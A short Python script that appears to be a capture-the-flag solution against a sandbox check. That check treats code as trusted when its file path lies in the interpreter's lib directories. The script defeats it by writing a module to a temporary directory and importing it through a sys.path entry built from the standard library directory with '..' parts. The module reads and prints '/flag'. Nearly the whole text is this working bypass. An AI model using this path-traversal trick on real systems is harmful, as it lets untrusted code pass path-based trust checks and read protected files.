# Installed code is told by its file name lying in the interpreter's lib
# directories. The program's module is written to a temporary directory and
# imported through a sys.path entry spelled from the standard library's own
# directory with ".." parts, so its file name starts with the lib directory.
import json
import os
import sys
import tempfile

stdlib = os.path.dirname(os.path.dirname(json.__file__))
d = tempfile.mkdtemp()
with open(os.path.join(d, "site_tools.py"), "w") as fh:
    fh.write("with open('/flag') as fh:\n    print(fh.read())\n")
sys.path.insert(0, os.path.join(stdlib, os.path.relpath(d, stdlib)))

import site_tools  # noqa: E402,F401
print(site_tools.__file__)
